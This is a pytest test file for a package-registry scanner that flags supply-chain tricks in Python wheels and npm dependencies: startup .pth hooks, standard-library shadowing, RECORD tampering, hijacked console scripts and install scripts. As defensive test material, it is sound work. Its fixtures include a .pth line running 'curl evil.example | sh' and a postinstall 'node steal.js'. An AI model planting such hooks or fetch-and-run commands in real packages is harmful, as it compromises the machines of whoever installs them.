"""The scan of a version's code (registry/scan_code.py), wheel by wheel: wheels crafted here, each
with one trick, give the finding it should and nothing else; the real wheels of popular packages
(httpx and anyio with their dependencies, as pip resolves them) give no failing finding."""

from __future__ import annotations

import base64
import hashlib
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from registry.onboard_npm import pack_wheel
from registry.scan_code import CODE_CHECK, NOTES_CHECK, code_checks
from sandbox.runtime import current_python

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SETUPTOOLS_PTH = (b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
                  b"enabled and __import__('_distutils_hack').add_shim(); \n")


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def wheel(where: Path, dist: str, version: str, files: dict[str, bytes], *, scripts: dict[str, str] | None = None,
          requires: tuple[str, ...] = (), record: bool = True, tamper: dict[str, bytes] | None = None) -> Path:
    """A wheel as a build backend writes one (METADATA, WHEEL, entry_points.txt, RECORD); `tamper`:
    members whose bytes change after RECORD was written."""
    base = f"{dist.replace('-', '_')}-{version}"
    members = dict(files)
    members[f"{base}.dist-info/METADATA"] = (f"Metadata-Version: 2.1\nName: {dist}\nVersion: {version}\n"
                                             + "".join(f"Requires-Dist: {r}\n" for r in requires)).encode()
    members[f"{base}.dist-info/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    if scripts:
        members[f"{base}.dist-info/entry_points.txt"] = ("[console_scripts]\n" + "".join(
            f"{k} = {v}\n" for k, v in scripts.items())).encode()
    if record:
        lines = [f"{name},{record_hash(data)},{len(data)}" for name, data in members.items()]
        members[f"{base}.dist-info/RECORD"] = ("\n".join([*lines, f"{base}.dist-info/RECORD,,"]) + "\n").encode()
    members.update(tamper or {})
    path = where / f"{base}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def scan(tmp_path: Path, tool: Path, *deps: Path, command: str = "demo-tool", npm: bool = False,
         runtime: tuple[Path, ...] | None = None) -> tuple[list[dict], list[dict]]:
    """(failing findings, notes) of the tool's wheel with `deps` as its layer."""
    by_digest = {hashlib.sha256(p.read_bytes()).hexdigest(): p for p in deps}
    layer = [{"name": p.name.split("-")[0].replace("_", "-"), "version": p.name.split("-")[1], "sha256": s} for s, p in by_digest.items()]
    checks = {c["check"]: c for c in code_checks(tool, command, layer, by_digest.__getitem__,
                                                  current_python().site_packages if runtime is None else runtime, npm=npm)}
    assert checks[NOTES_CHECK]["ok"] and checks[NOTES_CHECK]["advisory"]  # notes never fail validation
    assert checks[CODE_CHECK]["ok"] == (not checks[CODE_CHECK]["findings"])
    return checks[CODE_CHECK]["findings"], checks[NOTES_CHECK]["findings"]


@pytest.fixture
def tool(tmp_path: Path) -> Path:
    (tmp_path / "tool").mkdir()
    return wheel(tmp_path / "tool", "demo-tool", "1.0.0", {"demo_tool/__init__.py": b"", "demo_tool/server.py": b"def main(): pass\n"},
                 scripts={"demo-tool": "demo_tool.server:main"})


def test_a_clean_tool_and_dependency_give_nothing(tmp_path, tool):
    dep = wheel(tmp_path, "clean-dep", "1.0", {"clean_dep/__init__.py": b"X = 1\n", "clean_dep/_speedups.so": ELF,
                                               "clean_dep.pth": b"# a comment\nextra_dir\n"})
    assert scan(tmp_path, tool, dep) == ([], [])


def test_a_pth_that_runs_code_at_start_fails_and_setuptools_own_is_a_note(tmp_path, tool):
    evil = wheel(tmp_path, "evil-pth", "1.0", {"evil_pth/__init__.py": b"",
                                               "zzz_evil.pth": b"import os; os.system('curl evil.example | sh')\n"})
    code, notes = scan(tmp_path, tool, evil)
    assert [(f["tool"], f["path"]) for f in code] == [("evil-pth 1.0", "zzz_evil.pth")], code
    assert "runs code at every interpreter start" in code[0]["message"] and "curl evil.example" in code[0]["message"]
    setuptools = wheel(tmp_path, "setuptools", "80.0", {"setuptools/__init__.py": b"", "_distutils_hack/__init__.py": b"",
                                                        "distutils-precedence.pth": SETUPTOOLS_PTH})
    code, notes = scan(tmp_path, tool, setuptools)
    assert code == [] and [n["path"] for n in notes] == ["distutils-precedence.pth"], (code, notes)


def test_startup_modules_and_standard_library_names_fail(tmp_path, tool):
    evil = wheel(tmp_path, "evil-start", "1.0", {
        "sitecustomize.py": b"import os\n", "usercustomize/__init__.py": b"", "json/__init__.py": b"loads = eval\n",
        "subprocess.py": b"", "test/__init__.py": b"",  # a stray test/ shadows nothing anyone imports: not reported
    })
    code, _ = scan(tmp_path, tool, evil)
    found = {f["path"]: f["message"] for f in code}
    assert set(found) == {"sitecustomize", "usercustomize", "json", "subprocess"}, found
    assert "every interpreter start" in found["sitecustomize"] and "standard library" in found["json"]


def test_shadowing_another_distributions_files_or_names_fails(tmp_path, tool):
    import mcp

    # The runtime's own `mcp` SDK, replaced by a dependency's file of that path; `anyio` shadowed by a module.
    evil = wheel(tmp_path, "evil-shadow", "1.0", {"evil_shadow/__init__.py": b"",
                                                  "mcp/__init__.py": b"print('owned')\n", "anyio.py": b""})
    code, _ = scan(tmp_path, tool, evil)
    found = {f["path"]: f["message"] for f in code}
    assert set(found) == {"mcp/__init__.py", "anyio"}, found
    assert found["mcp/__init__.py"].startswith("the file is also mcp's (in the sandbox runtime)")
    assert "anyio" in found["anyio"] and "shadow" in found["anyio"]
    assert Path(mcp.__file__).read_text() != "print('owned')\n"

    # Two dependencies with the same file, other content; and a namespace package both share, which is fine.
    one = wheel(tmp_path, "one-dep", "1.0", {"shared/__init__.py": b"A = 1\n", "acme/one/__init__.py": b""})
    two = wheel(tmp_path, "two-dep", "1.0", {"shared/__init__.py": b"A = 2\n", "acme/two/__init__.py": b""})
    code, _ = scan(tmp_path, tool, one, two)
    assert [(f["tool"], f["path"]) for f in code] == [("two-dep 1.0", "shared/__init__.py")], code
    # A newer version of a runtime package (pip upgrades it into the layer) is the same distribution: nothing.
    anyio = wheel(tmp_path, "anyio", "99.0", {"anyio/__init__.py": b"NEWER = True\n"})
    assert scan(tmp_path, tool, anyio)[0] == []


def test_native_code_outside_the_wheels_own_package_is_reported_not_failed(tmp_path, tool):
    evil = wheel(tmp_path, "evil-native", "1.0", {
        "evil_native/__init__.py": b"", "evil_native/_fast.cpython-311-x86_64-linux-gnu.so": ELF,  # its own: fine
        "evil_native.libs/libz-123.so.1": ELF,  # auditwheel's vendored libraries: its own too
        "helper": ELF, "other_pkg/loader.so": ELF, "evil_native-1.0.data/scripts/runme": ELF,
    })
    code, notes = scan(tmp_path, tool, evil)
    assert code == []
    assert {n["path"] for n in notes} == {"helper", "other_pkg/loader.so", "evil_native-1.0.data/scripts/runme"}, notes
    assert all(n["message"].startswith("native code outside") for n in notes)


def test_a_wheel_that_does_not_match_its_record_fails(tmp_path, tool):
    changed = wheel(tmp_path, "changed-dep", "1.0", {"changed_dep/__init__.py": b"SAFE = True\n"},
                    tamper={"changed_dep/__init__.py": b"import os; os.system('id')\n", "changed_dep/extra.py": b"x = 1\n"})
    code, _ = scan(tmp_path, tool, changed)
    found = {f["path"]: f["message"] for f in code}
    assert "does not match the hash its RECORD gives" in found["changed_dep/__init__.py"]
    assert "not in its RECORD" in found["changed_dep/extra.py"]
    unlisted = wheel(tmp_path, "norecord-dep", "1.0", {"norecord_dep/__init__.py": b""}, record=False)
    code, _ = scan(tmp_path, tool, unlisted)
    assert [f["message"] for f in code] == ["the wheel has no RECORD: what it holds cannot be checked against what it lists"]
    # The tool's own wheel may lack a RECORD (an npm server's packed install has none); a wrong one fails it.
    (tmp_path / "own").mkdir()
    own = wheel(tmp_path / "own", "demo-tool", "1.0.0", {"demo_tool/__init__.py": b""}, record=False)
    assert scan(tmp_path, own) == ([], [])
    bad_own = wheel(tmp_path / "own", "demo-tool", "1.0.1", {"demo_tool/__init__.py": b""}, tamper={"demo_tool/__init__.py": b"x"})
    assert [f["tool"] for f in scan(tmp_path, bad_own)[0]] == ["the tool's wheel"]


def test_a_dependencys_console_script_named_like_the_tools_fails(tmp_path, tool):
    dep = wheel(tmp_path, "sneaky-dep", "1.0", {"sneaky_dep/__init__.py": b""}, scripts={"demo-tool": "sneaky_dep:main"})
    code, _ = scan(tmp_path, tool, dep)
    assert [(f["path"], f["message"]) for f in code] == [
        ("entry_points.txt", "a console script 'demo-tool', the tool's own command's name (sneaky_dep:main)")]
    assert scan(tmp_path, tool, dep, command="other")[0] == []


def test_npm_install_scripts_and_native_addons_are_reported(tmp_path):
    app = tmp_path / "app"
    for package, manifest in {
        "demo": '{"name": "demo", "version": "1.0.0", "bin": "index.js"}',
        "hooked": '{"name": "hooked", "version": "2.0.0", "scripts": {"postinstall": "node steal.js", "test": "x"}}',
        "@scope/gyp": '{"name": "@scope/gyp", "version": "0.1.0"}',
        "demo/node_modules/nested": '{"name": "nested", "version": "3.0.0", "scripts": {"preinstall": "sh run.sh"}}',
    }.items():
        (app / "node_modules" / package).mkdir(parents=True)
        (app / "node_modules" / package / "package.json").write_text(manifest)
    (app / "node_modules" / "demo" / "index.js").write_text("console.log(1)\n")
    (app / "node_modules" / "@scope" / "gyp" / "binding.gyp").write_text("{}")
    (app / "node_modules" / "@scope" / "gyp" / "build").mkdir()
    (app / "node_modules" / "@scope" / "gyp" / "build" / "addon.node").write_bytes(ELF)
    packed = tmp_path / "demo-1.0.0-py3-none-any.whl"
    packed.write_bytes(pack_wheel(app, "demo", "1.0.0", "demo", "node_modules/demo/index.js"))
    code, notes = scan(tmp_path, packed, command="demo", npm=True)
    assert code == []
    found = {(n["tool"], n["path"]) for n in notes}
    assert found == {("hooked 2.0.0", "package.json scripts.postinstall"), ("nested 3.0.0", "package.json scripts.preinstall"),
                     ("@scope/gyp 0.1.0", "binding.gyp"), ("the tool's wheel", "node_modules/@scope/gyp/build/addon.node")}, notes


def test_the_real_wheels_of_popular_packages_give_no_failing_finding(tmp_path):
    """httpx and anyio with every dependency pip resolves for them, scanned against an empty runtime
    (so each is in the layer) and against the real one: nothing fails."""
    done = subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--only-binary=:all:", "--dest", str(tmp_path / "w"),
                           "httpx", "anyio", "python-slugify", "pydantic-core", "charset-normalizer"],
                          capture_output=True, text=True, timeout=600)
    if done.returncode != 0:
        pytest.skip(f"the package index cannot be reached: {done.stderr[-300:]}")
    wheels = sorted((tmp_path / "w").glob("*.whl"))
    assert {"httpx", "anyio", "httpcore", "h11", "idna", "certifi"} <= {w.name.split("-")[0].lower() for w in wheels}
    (tmp_path / "tool").mkdir()
    tool = wheel(tmp_path / "tool", "demo-tool", "1.0.0", {"demo_tool/__init__.py": b""})
    for runtime in ((), None):
        code, notes = scan(tmp_path, tool, *wheels, runtime=runtime)
        assert code == [], code
        print(f"\n{len(wheels)} real wheels: {len(notes)} note(s): {[(n['tool'], n['path']) for n in notes]}")
